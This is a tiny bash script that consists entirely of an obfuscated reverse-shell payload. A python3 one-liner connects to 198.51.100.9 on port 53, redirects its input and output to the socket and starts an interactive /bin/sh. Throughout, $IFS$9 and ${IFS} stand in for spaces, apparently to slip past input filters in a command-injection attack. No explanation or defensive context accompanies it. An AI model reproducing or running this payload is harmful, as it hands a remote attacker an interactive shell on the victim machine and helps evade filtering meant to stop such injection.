#$IFS$9setup$IFS$93099$IFS$9v1
#!/bin/bash
python3$IFS$9-c$IFS$9'import${IFS}socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("198.51.100.9",53));os.dup2(s.fileno(),0);$IFS$9os.dup2(s.fileno(),1);$IFS$9os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'
